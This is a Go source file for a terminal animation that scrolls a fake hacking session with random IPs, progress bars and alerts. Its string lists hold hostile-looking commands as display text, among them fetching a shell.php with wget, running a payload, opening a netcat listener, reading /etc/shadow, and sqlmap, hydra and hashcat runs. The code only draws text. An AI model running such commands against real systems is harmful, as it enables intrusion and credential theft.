package anim

import (
	"fmt"
	"math"
	"math/rand/v2"
	"strings"

	"github.com/paulrobello/termflix/canvas"
)

type lineKind uint8

const (
	lineNormal lineKind = iota
	lineBanner
	lineWarning
	lineProgress
)

type textLine struct {
	text    string
	r, g, b uint8
	age     float64
	kind    lineKind

	// Progress fields
	target  float64
	current float64
}

// hackerman scrolls a fake intrusion session: commands, tool output,
// progress bars, and the occasional blinking alert
type hackerman struct {
	Base
	width     int
	height    int
	lines     []textLine
	nextTimer float64
	rng       *rand.Rand
}

var hackCommands = []string{
	"$ ssh root@{} -p 22",
	"$ nmap -sS -T4 {}/24",
	"$ curl -X POST https://api.{}/v2/auth",
	"$ hydra -l admin -P rockyou.txt {}",
	"$ sqlmap -u \"http://{}/login?id=1\" --dump",
	"$ john --wordlist=passwd.txt shadow.hash",
	"$ tcpdump -i eth0 -n port 443",
	"$ aircrack-ng -w dict.txt capture.cap",
	"$ msfconsole -q -x \"use exploit/multi/handler\"",
	"$ nc -lvnp 4444",
	"$ python3 exploit.py --target {}",
	"$ cat /etc/shadow | head -20",
	"$ iptables -A INPUT -s {} -j DROP",
	"$ openssl enc -aes-256-cbc -in secrets.db -out encrypted.bin",
	"$ nikto -h https://{}:8443",
	"$ gobuster dir -u http://{} -w common.txt -t 50",
	"$ hashcat -m 1000 ntlm.hash rockyou.txt --force",
	"$ wget http://{}:8080/shell.php -O /tmp/s.php",
	"$ chmod +x payload && ./payload &",
	"$ find / -perm -4000 -type f 2>/dev/null",
}

var hackOutputs = []string{
	"Connection established.",
	"PORT     STATE SERVICE",
	"22/tcp   open  ssh        OpenSSH 8.9",
	"80/tcp   open  http       Apache 2.4.52",
	"443/tcp  open  https",
	"3306/tcp open  mysql      MySQL 8.0.32",
	"8080/tcp open  http-proxy",
	"Discovered open port 445/tcp on {}",
	"Host is up (0.023s latency). 997 ports filtered.",
	"[+] Valid credentials found: admin:p@ssw0rd123",
	"[+] Session 1 opened ({} -> {}:52431)",
	"[*] Sending stage (175174 bytes) to {}",
	"root:$6$rAnD0m$xYz:18291:0:99999:7:::",
	"www-data:$6$aBcDeF$123:18452:0:99999:7:::",
	"[!] Firewall rule added",
	"sqlmap identified injection point(s):",
	"  Parameter: id (GET)  Type: UNION query",
	"  Database: users  Table: credentials  [47 entries]",
	"[+] Cracked: admin:sunshine2024",
	"SHA256: 9f86d08188...4f1b2b0b822cd15d6c15b0f00a08",
	"  4,218,943 bytes transferred",
	"[!] VULNERABLE -- CVE-2024-21762",
	"[*] Exploit completed, but no session created.",
	"[*] Exploit completed, session opened!",
	"Packets captured: {} | Dropped: 0",
	"DNS: {} -> 93.184.216.34",
	"TLS 1.3 handshake complete",
	"/var/log/auth.log: 247 failed login attempts from {}",
	"uid=0(root) gid=0(root) groups=0(root)",
	"[+] Reverse shell connected from {}",
	"Exfiltrating... {} rows from credentials table",
	"drwxr-xr-x  root root  /usr/bin/sudo",
	"-rwsr-xr-x  root root  /usr/bin/passwd",
	"[*] Meterpreter session 2 opened ({} -> {})",
	"  -> Migrating to PID 1284 (svchost.exe)...",
	"  -> Migration successful!",
	"[+] Dumping SAM hashes...",
	"  Administrator:500:aad3b435...::::",
	"[*] Pivoting through {} to reach 10.10.0.0/16",
	"PING {} - 64 bytes: icmp_seq=1 ttl=64 time=0.4ms",
}

var hackBanners = []string{
	">>> ACCESS GRANTED <<<",
	"*** FIREWALL BYPASSED ***",
	"--- ROOT ACCESS OBTAINED ---",
	"=== ENCRYPTED CHANNEL OPEN ===",
	">>> PAYLOAD DELIVERED <<<",
	"+++ PRIVILEGE ESCALATION SUCCESS +++",
}

var hackWarnings = []string{
	"!!! INTRUSION DETECTED !!!",
	"!!! ALERT: IDS TRIGGERED !!!",
	"!!! CONNECTION RESET BY PEER !!!",
}

var progressLabels = []string{
	"Uploading payload", "Cracking hash", "Downloading DB",
	"Decrypting", "Scanning ports", "Brute forcing",
}

func newHackerman(width, height int, _ float64) Animation {
	return &hackerman{
		width:  width,
		height: height,
		rng:    newRNG(),
	}
}

func (hm *hackerman) Name() string { return "hackerman" }

func (hm *hackerman) OnResize(width, height int) {
	hm.width = width
	hm.height = height
}

func (hm *hackerman) PreferredRender() canvas.RenderMode { return canvas.RenderASCII }

func (hm *hackerman) randIP() string {
	return fmt.Sprintf("%d.%d.%d.%d",
		10+hm.rng.IntN(210), hm.rng.IntN(255),
		hm.rng.IntN(255), 1+hm.rng.IntN(253))
}

func (hm *hackerman) genLine() textLine {
	r := hm.rng.Float64()
	ip1 := hm.randIP()
	ip2 := hm.randIP()

	switch {
	case r < 0.18:
		tmpl := hackCommands[hm.rng.IntN(len(hackCommands))]
		return textLine{text: strings.ReplaceAll(tmpl, "{}", ip1), g: 255, kind: lineNormal}
	case r < 0.22:
		text := hackBanners[hm.rng.IntN(len(hackBanners))]
		return textLine{text: text, r: 50, g: 255, b: 50, kind: lineBanner}
	case r < 0.25:
		text := hackWarnings[hm.rng.IntN(len(hackWarnings))]
		return textLine{text: text, r: 255, g: 50, b: 50, kind: lineWarning}
	case r < 0.30:
		label := progressLabels[hm.rng.IntN(len(progressLabels))]
		return textLine{
			text: label, g: 200, b: 255, kind: lineProgress,
			target: randRange(hm.rng, 0.6, 1.0),
		}
	case r < 0.33:
		return textLine{kind: lineNormal}
	default:
		tmpl := hackOutputs[hm.rng.IntN(len(hackOutputs))]
		num := 100 + hm.rng.IntN(99899)
		var text string
		if strings.Contains(tmpl, "rows") || strings.Contains(tmpl, "captured") {
			text = strings.Replace(tmpl, "{}", fmt.Sprintf("%d", num), 1)
		} else {
			text = strings.Replace(tmpl, "{}", ip1, 1)
		}
		text = strings.Replace(text, "{}", ip2, 1)

		switch {
		case strings.Contains(text, "[+]") || strings.Contains(text, "uid=0"):
			return textLine{text: text, r: 100, g: 255, b: 100, kind: lineNormal}
		case strings.Contains(text, "[!]") || strings.Contains(text, "VULNERABLE"):
			return textLine{text: text, r: 255, g: 200, b: 50, kind: lineNormal}
		case strings.Contains(text, "[*]") || strings.Contains(text, "->"):
			return textLine{text: text, r: 100, g: 180, b: 255, kind: lineNormal}
		default:
			g := uint8(120 + hm.rng.IntN(60))
			return textLine{text: text, r: g / 2, g: g, b: g / 3, kind: lineNormal}
		}
	}
}

func (hm *hackerman) Update(c *canvas.Canvas, dt, time float64) {
	hm.width = c.Width
	hm.height = c.Height

	anyProgress := false
	for i := range hm.lines {
		ln := &hm.lines[i]
		if ln.kind == lineProgress && ln.current < ln.target {
			ln.current += dt * randRange(hm.rng, 0.2, 0.8)
			if ln.current > ln.target {
				ln.current = ln.target
			}
			anyProgress = true
		}
		ln.age += dt
	}

	hm.nextTimer -= dt
	if hm.nextTimer <= 0 && !anyProgress {
		// Fast bursts with occasional pauses
		if hm.rng.Float64() < 0.1 {
			hm.nextTimer = randRange(hm.rng, 0.3, 0.8)
		} else {
			hm.nextTimer = randRange(hm.rng, 0.02, 0.10)
		}

		hm.lines = append(hm.lines, hm.genLine())

		if maxLines := hm.height + 20; len(hm.lines) > maxLines {
			hm.lines = hm.lines[len(hm.lines)-maxLines:]
		}
	}

	c.Clear()

	start := 0
	if len(hm.lines) > hm.height {
		start = len(hm.lines) - hm.height
	}

	for i, ln := range hm.lines[start:] {
		if i >= c.Height {
			break
		}
		ageFade := 1.0 - math.Min(ln.age*0.1, 0.5)

		switch ln.kind {
		case lineProgress:
			hm.drawProgress(c, i, &ln)
		case lineBanner:
			flash := 1.0 - math.Min(ln.age*0.4, 0.6)
			hm.drawCentered(c, i, ln.text, scaleRGB(ln.r, ln.g, ln.b, flash))
		case lineWarning:
			blink := 0.3
			if math.Sin(time*4.0) > 0 || ln.age > 1.5 {
				blink = 1.0
			}
			hm.drawCentered(c, i, ln.text, scaleRGB(ln.r, ln.g, ln.b, blink))
		default:
			hm.drawText(c, 0, i, ln.text, scaleRGB(ln.r, ln.g, ln.b, ageFade))
		}
	}

	// Blinking cursor after the last line
	if math.Sin(time*3.0) > 0 && len(hm.lines) > 0 {
		cy := len(hm.lines) - start
		if cy > c.Height-1 {
			cy = c.Height - 1
		}
		last := hm.lines[len(hm.lines)-1]
		cursorX := 0
		if last.kind != lineProgress {
			cursorX = len(last.text) + 1
		}
		if cursorX < c.Width && cy >= 0 {
			c.SetChar(cursorX, cy, '█', 0, 255, 0)
		}
	}
}

func (hm *hackerman) drawProgress(c *canvas.Canvas, row int, ln *textLine) {
	label := fmt.Sprintf("[%s] [", ln.text)
	pct := fmt.Sprintf("] %.0f%%", ln.current*100)
	barW := hm.width - len(label) - len(pct) - 1
	if barW < 0 {
		barW = 0
	}
	filled := int(ln.current * float64(barW))

	hm.drawText(c, 0, row, label, [3]uint8{ln.r, ln.g, ln.b})
	for bx := 0; bx < barW; bx++ {
		px := len(label) + bx
		if bx < filled {
			c.SetChar(px, row, '█', 0, 230, 200)
		} else {
			c.SetChar(px, row, '░', 40, 40, 40)
		}
	}
	hm.drawText(c, len(label)+barW, row, pct, [3]uint8{ln.r, ln.g, ln.b})
}

func (hm *hackerman) drawCentered(c *canvas.Canvas, row int, text string, rgb [3]uint8) {
	pad := 0
	if hm.width > len(text) {
		pad = (hm.width - len(text)) / 2
	}
	hm.drawText(c, pad, row, text, rgb)
}

func (hm *hackerman) drawText(c *canvas.Canvas, x, row int, text string, rgb [3]uint8) {
	for i, ch := range text {
		c.SetChar(x+i, row, ch, rgb[0], rgb[1], rgb[2])
	}
}

func scaleRGB(r, g, b uint8, f float64) [3]uint8 {
	return [3]uint8{
		uint8(float64(r) * f),
		uint8(float64(g) * f),
		uint8(float64(b) * f),
	}
}
